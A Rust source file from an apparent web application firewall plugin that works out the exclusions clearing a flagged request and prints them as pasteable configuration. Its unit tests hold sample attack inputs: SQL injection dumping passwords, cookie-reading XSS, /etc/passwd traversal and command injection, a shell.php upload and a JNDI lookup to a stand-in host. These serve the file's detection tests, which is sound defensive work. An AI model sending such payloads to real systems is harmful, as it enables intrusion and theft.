//! The exclusions that would clear what was found in a request, ready to be pasted.

use super::{look, Seen};
use crate::error::Error;
use std::io::Write;
use std::path::Path;
use threat_agent_engine::config::{bounds, Exclusion, Payload};
use threat_agent_engine::inspect::{Finding, Location, LONGEST_LOCATION, MODEL};
use threat_agent_engine::rules::normalise;
use threat_agent_engine::{Error as Unfit, Request};

/// Prints the exclusions as the plugin's configuration has them.
pub fn print(
    payload: &Payload,
    request: &Request<'_>,
    said_in: &Path,
    out: &mut dyn Write,
) -> Result<(), Error> {
    let (exclusions, left) = clearing(payload, request).map_err(Error::config(said_in))?;
    writeln!(
        out,
        "\nif this is a false positive, in the plugin's `config`:\n"
    )?;
    writeln!(out, "payload:\n  exclusions:")?;
    for exclusion in &exclusions {
        let fields = [
            ("rules", &exclusion.rules),
            ("locations", &exclusion.locations),
            ("paths", &exclusion.paths),
        ];
        for (nth, (name, list)) in fields.into_iter().enumerate() {
            let dash = if nth == 0 { "-" } else { " " };
            // A list in JSON is one in YAML.
            writeln!(out, "    {dash} {name}: {}", serde_json::to_string(list)?)?;
        }
    }
    let (answer, probability) = match left {
        None => ("allow", 0.0),
        Some(worst) => {
            let left = is_recorded(payload, &worst);
            let answer = if left { "not cleared yet" } else { "allow" };
            (answer, worst.judgement.probability)
        }
    };
    writeln!(out, "\nwith it: {answer}, probability {probability:.3}")?;
    Ok(())
}

fn is_recorded(payload: &Payload, value: &Seen) -> bool {
    value.is_refused() || value.judgement.probability >= payload.detection_threshold
}

/// Finds exclusions of rules at single locations of this path, until nothing is recorded.
/// Shape: the exclusions, and the worst value that is left with them.
fn clearing(
    payload: &Payload,
    request: &Request<'_>,
) -> Result<(Vec<Exclusion>, Option<Seen>), Unfit> {
    let mut with = payload.clone();
    let own = payload.exclusions.len();
    for _ in own..bounds::MAX_EXCLUSIONS {
        let (seen, _) = look(&with, request)?;
        let Some(worst) = seen.first().filter(|w| is_recorded(payload, w)) else {
            break;
        };
        let rules = if worst.ruled {
            rules_at(&worst.location, &with, request)?
        } else {
            vec![MODEL.to_owned()]
        };
        let location = pattern(&worst.location);
        let mut known = with.exclusions.iter_mut().skip(own);
        match known.find(|e| e.locations.contains(&location)) {
            Some(exclusion) => exclusion.rules.extend(rules),
            None => with.exclusions.push(Exclusion {
                rules,
                locations: vec![location],
                paths: vec![path(request)],
                ..Exclusion::default()
            }),
        }
    }
    let left = look(&with, request)?.0.into_iter().next();
    Ok((with.exclusions.split_off(own), left))
}

/// Finds all rules that speak at a location. Findings tell of each rule only where it spoke the
/// loudest; so what is found elsewhere is hidden until nothing is.
fn rules_at(at: &Location, payload: &Payload, request: &Request<'_>) -> Result<Vec<String>, Unfit> {
    let mut hiding = payload.clone();
    loop {
        let (_, found) = look(&hiding, request)?;
        let (here, elsewhere): (Vec<&Finding>, Vec<&Finding>) =
            found.list.iter().partition(|f| f.location == *at);
        if elsewhere.is_empty() || hiding.exclusions.len() >= bounds::MAX_EXCLUSIONS {
            return Ok(here.iter().map(|f| f.rule.to_owned()).collect());
        }
        for finding in elsewhere {
            hiding.exclusions.push(Exclusion {
                rules: vec![finding.rule.to_owned()],
                locations: vec![pattern(&finding.location)],
                ..Exclusion::default()
            });
        }
    }
}

/// Writes a location so that it is matched by itself; for what cannot be written stands a `*`.
fn pattern(location: &Location) -> String {
    let part = location.part().name();
    let name = location.name();
    if name.is_empty() {
        return part.to_owned();
    }
    let mut text = format!("{part}.");
    for chunk in name.utf8_chunks() {
        let plain = |c: char| if c.is_control() { '*' } else { c };
        text.extend(chunk.valid().chars().map(plain));
        if !chunk.invalid().is_empty() {
            text.push('*');
        }
    }
    if name.len() == LONGEST_LOCATION {
        text.push('*');
    }
    text
}

/// Writes the path of a request as exclusions want it.
fn path(request: &Request<'_>) -> String {
    let mut path = normalise(request.path).into_owned();
    if path.len() > bounds::MAX_TEXT_BYTES {
        path.truncate(path.floor_char_boundary(bounds::MAX_TEXT_BYTES - 1));
        path.push('*');
    }
    path
}

#[cfg(test)]
mod tests {
    use super::*;
    use threat_agent_engine::{Action, Body, Config, Engine, LocalState, Verdict};

    fn judge(exclusions: &[Exclusion], request: &Request<'_>) -> Verdict {
        let mut config = Config::default();
        config.payload.exclusions = exclusions.to_vec();
        let engine = Engine::new(config).unwrap();
        engine.inspect(request, &LocalState::default(), 1)
    }

    const UNION: &[u8] = b"q=1%27+UNION+SELECT+username,+password+FROM+users--+-";

    #[test]
    fn an_exclusion_clears_its_finding_and_nothing_else() {
        let request = Request {
            path: b"/search",
            query: UNION,
            ..Request::default()
        };
        let (exclusions, _) = clearing(&Config::default().payload, &request).unwrap();
        let cleared = judge(&exclusions, &request);
        assert_eq!(
            (cleared.action, cleared.rules.len()),
            (Action::Allow, 0),
            "{exclusions:?}"
        );

        let elsewhere = [b"a", &UNION[1..]].concat();
        let twice = [UNION, b"&", &elsewhere[..]].concat();
        for (path, query) in [
            (&b"/other"[..], UNION),
            (b"/search/", UNION),
            (b"/search", &elsewhere[..]),
            (b"/search", &twice[..]),
            (
                b"/search",
                b"q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            ),
            (b"/search", b"q=../../../../etc/passwd"),
            (b"/search", b"q=1;cat+/etc/passwd"),
        ] {
            let request = Request {
                path,
                query,
                ..Request::default()
            };
            let verdict = judge(&exclusions, &request);
            assert_eq!(verdict.action, Action::Block, "{}", query.escape_ascii());
        }
    }

    #[test]
    fn the_name_of_an_uploaded_file_can_be_cleared() {
        let body =
            b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n\
            GIF89a\r\n--b--\r\n";
        let request = Request {
            method: b"POST",
            path: b"/upload",
            headers: b"Content-Type: multipart/form-data; boundary=b\r\n",
            body: Body {
                bytes: body,
                ..Body::default()
            },
            ..Request::default()
        };
        let found = judge(&[], &request);
        assert!(found.reason.ends_with("in file.f"), "{}", found.reason);
        let (exclusions, _) = clearing(&Config::default().payload, &request).unwrap();
        assert!(judge(&exclusions, &request).rules.is_empty());
    }

    #[test]
    fn whatever_is_found_can_be_cleared() {
        let script = b"{\"a\":{\"b\":\"<script>alert(1)</script>\"},\"c\":\"1' or '1'='1\"}";
        for (query, body) in [
            (UNION, &script[..]),
            (b"a=1%27+or+%271%27=%271&b=1%27+or+%271%27=%271", b""),
            (b"%3Cscript%3Ealert(1)%3C/script%3E", b""),
            (b"a%0d%0ab=..%2f..%2f..%2fetc%2fpasswd", b""),
        ] {
            let request = Request {
                path: b"/a%20b/",
                query,
                headers: b"Content-Type: application/json\r\nX-Note: ${jndi:ldap://a.b/c}\r\n",
                body: Body {
                    bytes: body,
                    ..Body::default()
                },
                ..Request::default()
            };
            assert_eq!(judge(&[], &request).action, Action::Block);
            let (exclusions, _) = clearing(&Config::default().payload, &request).unwrap();
            let verdict = judge(&exclusions, &request);
            assert_eq!(
                verdict.action,
                Action::Allow,
                "{}: {exclusions:?}",
                verdict.reason
            );
            assert!(verdict.rules.is_empty());
        }
    }
}
